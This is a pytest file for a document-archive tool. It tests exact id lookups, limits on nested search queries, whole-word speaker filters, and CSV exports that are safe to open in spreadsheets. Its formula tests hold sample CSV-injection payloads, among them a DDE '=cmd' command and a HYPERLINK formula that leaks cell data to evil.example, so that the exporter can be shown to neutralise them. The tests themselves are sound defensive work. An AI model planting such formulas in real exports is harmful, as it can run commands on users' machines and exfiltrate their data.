"""Archive reads under careless or hostile use: exact document ids, bounded search
queries, whole-word speaker filters and spreadsheet-safe CSV exports.

Each test fails without its protection: ``find_document``'s LIKE fallback answered
``75`` with document 2 and ``0``/``3`` with an error (500); a nested query raised
RecursionError; ``speaker=US`` matched "Russia"; CSV cells began with ``=``.
"""
from __future__ import annotations

import csv
import io
import warnings

import pytest
from conftest_pg import record_sanctions, record_treaty, record_undated
from typer.testing import CliRunner

from onrecord.store import open_store

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient


def _numbered(url):
    s = open_store(url)
    ids = [s.put(record_treaty(path="/archive/2021/075-treaty.txt"))[1],
           s.put(record_sanctions(path="/archive/2021/03-sanctions.txt"))[1],
           s.put(record_undated(path="/archive/5/undated.txt"))[1]]
    s.close()
    return url, ids


@pytest.fixture
def numbered(store_url):
    """Three documents whose paths hold digits that other ids are made of."""
    return _numbered(store_url)


@pytest.fixture
def numbered_sqlite(tmp_path):
    """The same in a SQLite store (the command-line checks need only one back end)."""
    return _numbered(str(tmp_path / "numbered.db"))


def _client(url):
    from onrecord.serve.app import create_app

    return TestClient(create_app(url), raise_server_exceptions=False)


def test_integer_ids_mean_that_id_only(numbered):
    url, ids = numbered
    s = open_store(url)
    try:
        for missing in (75, "75", 0, "0", 3 if 3 not in ids else 999, 5 if 5 not in ids else 998,
                        2 ** 63, 2 ** 64 + 7, "99999999999999999999999", -1):
            if isinstance(missing, int) and missing in ids:
                continue
            assert s.document(missing) is None, missing
        for i in ids:
            assert s.document(i)["id"] == i and s.document(str(i))["id"] == i
        # an explicit key or path ending still finds a document, and only after a '/'
        assert s.document("075-treaty.txt")["id"] == ids[0]
        assert s.document("2021/03-sanctions.txt")["id"] == ids[1]
        assert s.document("treaty.txt") is None
    finally:
        s.close()


def test_api_answers_404_for_ids_that_do_not_exist(numbered):
    url, ids = numbered
    with _client(url) as c:
        for missing in ("75", "0", "5", "3", str(2 ** 63), str(2 ** 70), "-4"):
            if missing.lstrip("-").isdigit() and int(missing) in ids:
                continue
            r = c.get(f"/api/documents/{missing}")
            assert r.status_code == 404, (missing, r.status_code, r.text[:200])
            assert c.get(f"/documents/{missing}").status_code == 404
        assert c.get(f"/api/documents/{ids[1]}").json()["id"] == ids[1]


def test_show_by_id_is_exact(numbered_sqlite):
    from onrecord.cli import app

    url, ids = numbered_sqlite
    missing = next(n for n in (75, 5, 3, 0) if n not in ids)
    r = CliRunner().invoke(app, ["show", str(missing), "--db", url])
    assert r.exit_code == 1 and "no stored document" in r.output
    assert "Traceback" not in r.output


# ---- nested and long search queries -------------------------------------------------

NESTED = "(" * 400 + "treaty" + ")" * 400
NOTS = "a " + "-(" * 150 + "treaty" + ")" * 150
LONG_Q = " ".join(["treaty"] * 400)


def test_deep_or_long_queries_are_refused_with_the_reason(store_url):
    from onrecord.store import QuerySyntaxError, parse_query

    for q, why in ((NESTED, "nest"), (NOTS, "nest"), (LONG_Q, "limit")):
        with pytest.raises(QuerySyntaxError, match=why):
            parse_query(q)
    # within the bounds a nested query still works
    assert parse_query("(" * 10 + "treaty" + ")" * 10)
    s = open_store(store_url)
    try:
        s.put(record_treaty())
        assert s.statements(q="((treaty OR (nuclear)))")
        with pytest.raises(QuerySyntaxError):
            s.statements(q=NESTED)
    finally:
        s.close()


def test_nested_queries_answer_400_on_the_api_and_pages(numbered):
    url, _ = numbered
    with _client(url) as c:
        for path in ("/api/statements", "/api/documents", "/search"):
            for q in (NESTED, NOTS, LONG_Q):
                r = c.get(path, params={"q": q})
                assert r.status_code == 400, (path, r.status_code)
                assert "nest" in r.text or "limit" in r.text


def test_nested_query_on_the_command_line_is_one_line(numbered_sqlite):
    from onrecord.cli import app

    url, _ = numbered_sqlite
    r = CliRunner().invoke(app, ["search", NESTED, "--db", url])
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert "nest more than" in r.output and len(r.output.strip().splitlines()) <= 3


# ---- the speaker filter ------------------------------------------------------------

def record_countries():
    from conftest_pg import _rec

    text = ("Russia said the talks had failed. The Russian Foreign Ministry said the offer "
            "was late. The US said it would wait. Sergey Lavrov said nothing new.")
    speakers = [{"id": "russia", "name": "Russia", "type": "government"},
                {"id": "russian-foreign-ministry", "name": "Russian Foreign Ministry",
                 "type": "government"},
                {"id": "united-states", "name": "United States", "type": "government",
                 "aliases": ["US"]},
                {"id": "sergey-lavrov", "name": "Sergey Lavrov", "aliases": ["Lavrov"]}]
    return _rec(text, path="/archive/countries.txt", title="Countries", published="2021-01-01",
                speakers=speakers,
                atts=[("indirect", "the talks had failed", "said", "Russia", "russia", None),
                      ("indirect", "the offer was late", "said", "The Russian Foreign Ministry",
                       "russian-foreign-ministry", None),
                      ("indirect", "it would wait", "said", "The US", "united-states", None),
                      ("indirect", "nothing new", "said", "Sergey Lavrov", "sergey-lavrov",
                       None)])


@pytest.fixture
def countries(store_url):
    s = open_store(store_url)
    s.put(record_countries())
    yield s
    s.close()


def _who(rows):
    return sorted({r["speaker_id"] for r in rows})


def test_speaker_filter_matches_whole_names_aliases_and_ids(countries):
    s = countries
    assert _who(s.statements(speaker="US")) == ["united-states"]
    assert _who(s.statements(speaker="us")) == ["united-states"]
    assert _who(s.statements(speaker="Russia")) == ["russia"]
    assert _who(s.statements(speaker="russian")) == ["russian-foreign-ministry"]
    assert _who(s.statements(speaker="Foreign Ministry")) == ["russian-foreign-ministry"]
    assert _who(s.statements(speaker="Lavrov")) == ["sergey-lavrov"]
    assert _who(s.statements(speaker="sergey-lavrov")) == ["sergey-lavrov"]
    assert _who(s.statements(speaker="  united   STATES ")) == ["united-states"]
    assert s.statements(speaker="Lav") == [] and s.statements(speaker="ssia") == []


@pytest.mark.parametrize("bad", ["", " ", "???", "-", "%", "_", "\t"])
def test_speaker_filter_without_a_letter_is_refused(countries, bad):
    from onrecord.store import StoreError

    with pytest.raises(StoreError, match="speaker filter"):
        countries.statements(speaker=bad)


def test_speaker_filter_on_the_api(countries, store_url):
    with _client(store_url) as c:
        rows = c.get("/api/statements", params={"speaker": "US"}).json()
        assert _who(rows) == ["united-states"]
        for bad in ("???", "-", " ", ""):
            r = c.get("/api/statements", params={"speaker": bad})
            assert r.status_code == 400 and "speaker filter" in r.json()["detail"]
        assert c.get("/search", params={"speaker": "???"}).status_code == 400


# ---- CSV exports open safely in spreadsheets ------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def record_formulas():
    from conftest_pg import _rec

    text = "Formula page\n\n" + " ".join(f"Evil Person said {f}." for f in FORMULAS)
    evil = {"id": "evil-person", "name": "=Evil Person", "role": "@admin", "aliases": []}
    return _rec(text.replace("Evil Person said", "=Evil Person said"),
                path="/archive/formulas.txt", title="=HYPERLINK(\"http://evil.example\")",
                published="2021-01-01", speakers=[evil],
                atts=[("indirect", f, "said", "=Evil Person", "evil-person", None)
                      for f in FORMULAS])


def test_csv_export_neutralises_formulas(tmp_path):
    from onrecord.cli import app

    db = str(tmp_path / "f.db")
    s = open_store(db)
    s.put(record_formulas())
    s.close()
    for what in ("statements", "documents", "speakers"):
        out = tmp_path / f"{what}.csv"
        r = CliRunner().invoke(app, ["export", "--format", "csv", "--what", what, "--out",
                                     str(out), "--db", db])
        assert r.exit_code == 0, r.output
        rows = list(csv.reader(open(out, encoding="utf-8", newline="")))
        assert len(rows) > 1
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    rows = list(csv.DictReader(open(tmp_path / "statements.csv", encoding="utf-8", newline="")))
    assert sorted(r["content"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["speaker_name"] for r in rows} == {"'=Evil Person"}
    assert all(r["start_offset"].isdigit() for r in rows)  # numbers stay numbers


def test_network_csv_neutralises_formulas():
    from onrecord.events.cross import network_csv

    rec = record_formulas().to_dict()
    rec["speakers"].append({"id": "+target", "name": "-Target", "type": "person",
                            "mentions": [], "aliases": []})
    rec["attributions"][0]["addressee"] = {"id": "+target", "name": "-Target"}
    rows = list(csv.reader(io.StringIO(network_csv([rec]))))
    assert len(rows) > 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
